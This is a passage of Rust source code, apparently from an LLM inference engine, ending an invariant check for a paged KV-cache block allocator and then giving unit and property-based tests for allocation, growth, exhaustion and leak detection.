                    return Err(format!("block {b} owned twice (seq {})", seq.seq_id));
                }
                if self.owner[b as usize] != Some(seq.seq_id) {
                    return Err(format!("block {b} owner mismatch"));
                }
                seen[b as usize] = true;
            }
            if seq.blocks.len() != self.blocks_for(seq.len.max(1)) {
                return Err(format!(
                    "seq {} holds {} pages for {} tokens",
                    seq.seq_id,
                    seq.blocks.len(),
                    seq.len
                ));
            }
        }
        if !seen.iter().all(|&s| s) {
            return Err("leaked block (neither free nor owned)".into());
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::prop_assert;
    use crate::util::prop::run_prop;

    #[test]
    fn alloc_grow_free_cycle() {
        let mut a = BlockAllocator::new(16, 4, 8);
        assert_eq!(a.free_blocks(), 15);
        let mut s = a.create_seq(1, 5).unwrap(); // 2 pages
        assert_eq!(a.free_blocks(), 13);
        assert_eq!(s.len, 5);
        // Growing to 8 tokens stays in 2 pages; token 9 takes a third.
        for _ in 0..3 {
            assert!(a.append_token(&mut s).unwrap());
        }
        assert_eq!(a.free_blocks(), 13);
        assert!(a.append_token(&mut s).unwrap());
        assert_eq!(a.free_blocks(), 12);
        a.free_seq(&s);
        assert_eq!(a.free_blocks(), 15);
    }

    #[test]
    fn exhaustion_is_graceful() {
        let mut a = BlockAllocator::new(4, 4, 4); // 3 usable pages
        let s1 = a.create_seq(1, 8).unwrap(); // 2 pages
        assert!(!a.can_admit(8), "only 1 page left");
        assert!(a.create_seq(2, 8).is_err());
        let mut s3 = a.create_seq(3, 4).unwrap(); // last page
        // Growth beyond capacity returns false, not an error.
        assert!(!a.append_token(&mut s3).unwrap());
        a.free_seq(&s1);
        assert!(a.append_token(&mut s3).unwrap());
        a.check_invariants(&[&s3]).unwrap();
    }

    #[test]
    fn max_seq_length_enforced() {
        let mut a = BlockAllocator::new(32, 4, 2); // max 8 tokens/seq
        let mut s = a.create_seq(1, 7).unwrap();
        assert!(a.append_token(&mut s).unwrap()); // 8th token ok
        assert!(!a.append_token(&mut s).unwrap()); // 9th refused
        assert!(a.create_seq(2, 9).is_err());
    }

    #[test]
    fn table_row_layout() {
        let mut a = BlockAllocator::new(16, 4, 4);
        let s = a.create_seq(1, 6).unwrap();
        let row = a.table_row(&s);
        assert_eq!(row.len(), 4);
        assert!(row[0] > 0 && row[1] > 0);
        assert_eq!(&row[2..], &[0, 0], "unused entries point at scratch");
        assert_eq!(a.scratch_row(), vec![0; 4]);
    }

    #[test]
    fn prop_allocator_never_double_books() {
        run_prop("kvcache_invariants", 0xcace, 50, |rng| {
            let n_blocks = 4 + rng.below(60) as usize;
            let bs = [4usize, 8, 16][rng.below(3) as usize];
            let max_bps = 1 + rng.below(8) as usize;
            let mut a = BlockAllocator::new(n_blocks, bs, max_bps);
            let mut live: Vec<SeqBlocks> = Vec::new();
            let mut next_id = 0u64;
            for _ in 0..200 {
                match rng.below(10) {
                    0..=3 => {
                        let plen = 1 + rng.below((bs * max_bps) as u64) as usize;
                        if a.can_admit(plen) && a.blocks_for(plen) <= max_bps {
                            next_id += 1;
                            live.push(a.create_seq(next_id, plen).unwrap());
                        }
                    }
                    4..=7 => {
                        if !live.is_empty() {
                            let i = rng.below(live.len() as u64) as usize;
                            let _ = a.append_token(&mut live[i]).unwrap();
                        }
                    }
                    _ => {
                        if !live.is_empty() {
                            let i = rng.below(live.len() as u64) as usize;
                            let s = live.swap_remove(i);
                            a.free_seq(&s);
                        }
                    }
                }
                let refs: Vec<&SeqBlocks> = live.iter().collect();
                if let Err(e) = a.check_invariants(&refs) {
                    return Err(e);
                }
            }
            // Free everything: pool must return to full.
            for s in &live {
                a.free_seq(s);
            }
            prop_assert!(
                a.free_blocks() == n_blocks - 1,
                "pool leaked: {} != {}",
                a.free_blocks(),
                n_blocks - 1
            );
            Ok(())
        });
    }
}
